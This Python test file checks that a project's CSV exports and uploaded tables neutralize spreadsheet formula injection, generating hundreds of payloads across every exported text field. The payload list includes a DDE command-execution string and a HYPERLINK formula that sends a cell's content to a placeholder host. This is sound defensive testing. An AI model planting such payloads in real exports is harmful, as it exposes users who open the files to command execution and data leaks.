"""Opening what the site gives runs nothing: formulas in every place that a text can come from, in every export.

No spreadsheet program is started here. A cell is live when its text, after what such a program strips (such as spaces),
begins with a sign that starts a formula and is no plain number: the strictest reading of the programs we know.
"""

import csv
import io
import re
from collections.abc import Callable, Iterator
from dataclasses import replace

import pytest

from slagvaardig import picture
from slagvaardig.see.figures import exports
from slagvaardig.see.figures.readings import Reading, readings_of
from slagvaardig.see.figures.shelves import shelf
from slagvaardig.trust.uploads.texts import cleaned_text
from slagvaardig.web import spreadsheet
from tests.attack.proofs import proven
from tests.attack.sizes import size
from tests.world import World

SIGNS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
BODIES = (
    "cmd|'/c x'!A0", 'HYPERLINK("http://x.invalid?"&A1)', "1+1",
    "SUM(A1:A9)", 'WEBSERVICE("x")', "A1", "(1)", "{1}", "@x"
)  # fmt: skip
BEFORE = ("", " ", "\u00a0", "\ufeff", "\u200b", '"', "\x0b")
_STRIPPED = " \u00a0\ufeff\u200b\x0b\x0c\x00\u3000"
_NUMBER = re.compile(r"[+-]?\d[\d.,]*%?")


def payloads() -> Iterator[str]:
    """Well over four hundred."""
    for sign in SIGNS:
        for before in BEFORE:
            for body in BODIES:
                yield f"{before}{sign}{body}"


def is_live(cell: str) -> bool:
    bare = cell.lstrip(_STRIPPED)
    return (bare[:1] in tuple(SIGNS) and not _NUMBER.fullmatch(bare)) or cell[:1] in ("\t", "\r", "\n")


def by_export(reading: Reading, payload: str) -> str:
    """An indicator whose words all hold the payload, as the pages give it."""
    return exports.as_csv([evil(reading, payload)], example=False)


def evil(reading: Reading, payload: str) -> Reading:
    order = reading.order
    indicator = replace(order.indicator, title=payload, unit=payload)
    source = replace(order.source, publisher=payload, table=payload, licence=payload)
    return replace(
        reading,
        order=replace(order, indicator=indicator, source=source),
        area=replace(reading.area, name=payload),
        points=reading.points[:2],
    )


def by_command(reading: Reading, payload: str) -> str:
    """The same by `slagvaardig picture --csv`."""
    return picture.as_csv([evil(reading, payload)]).decode("utf-8-sig")


def by_upload(reading: Reading, payload: str) -> str:
    """A table that somebody sent, as it is given back."""
    quoted = payload.replace('"', '""')
    return cleaned_text(f'kop;"{quoted}";1\n"{quoted}";x;-2\n'.encode(), "csv").decode()


EXPORTS: tuple[Callable[[Reading, str], str], ...] = (by_export, by_command, by_upload)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";") for cell in row]


def test_no_cell_of_any_export_starts_a_formula(tour: World) -> None:
    reading = a_reading(tour)
    tried = [one for one in payloads()][:: size(9, 1)]
    attempts, live, numbers = 0, [], 0
    for payload in tried:
        for export in EXPORTS:
            if export is by_upload and re.search("[\x00-\x08\x0b\r\n]", payload):
                continue  # such a file is refused, or is two rows
            found = cells(export(reading, payload))
            attempts += 1
            live += [(export.__name__, cell) for cell in found if is_live(cell)]
            numbers += sum(bool(_NUMBER.fullmatch(cell)) for cell in found)
    good = ["-3", "-2,5", "+1", "Gewoon", "a-b"]
    served = [text for text in good if spreadsheet.cell(text) == text]
    proven("no-formula", attempts=attempts, failed=len(live), entitled=len(good), served=len(served))
    assert len(list(payloads())) >= 400
    assert live == []
    assert served == good
    assert numbers > attempts, "numbers stay numbers"


def test_without_the_function_cells_would_be_live(tour: World, monkeypatch: pytest.MonkeyPatch) -> None:
    reading = a_reading(tour)
    monkeypatch.setattr(spreadsheet, "cell", lambda value: "" if value is None else str(value))
    assert any(is_live(cell) for cell in cells(by_export(reading, "=1+1")))


def a_reading(world: World) -> Reading:
    area = world.region.areas.get(world.towns[0])
    assert area is not None
    found = world.region.indicators.values()
    return next(one for indicator in found for one in readings_of(world.region, indicator, area, shelf()))
